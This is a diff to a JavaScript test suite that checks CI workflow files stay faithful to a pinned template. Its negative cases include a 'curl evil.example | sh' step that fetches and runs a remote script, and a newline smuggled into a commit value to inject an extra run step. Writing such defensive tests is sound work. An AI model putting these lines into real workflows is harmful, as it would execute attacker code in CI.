@@ -26,6 +26,9 @@ test('a workflow follows a template whatever stands for its open words, and not 
   const live = fill(filled, { COMMIT_OF_GIT_QMS: '2'.repeat(40) });
   expect(follows(live, filled)).toBe(true);
   expect(follows(`# ours\n${live}`, filled)).toBe(true);
+  expect(follows(fill(filled, { COMMIT_OF_GIT_QMS: 'main' }), filled)).toBe(false);
+  expect(follows(live.replace('1'.repeat(40), '2'.repeat(40)), template)).toBe(true);
+  expect(follows(live.replace('1'.repeat(40), '$' + '{{ vars.X }}'), template)).toBe(false);
   expect(follows(live.replace('1111', '3333'), filled)).toBe(false);
   expect(follows(`${live}      - run: curl evil.example | sh\n`, filled)).toBe(false);
   expect(follows(live.replace('2'.repeat(40), `${'2'.repeat(40)}\n      - run: evil`), filled)).toBe(false);
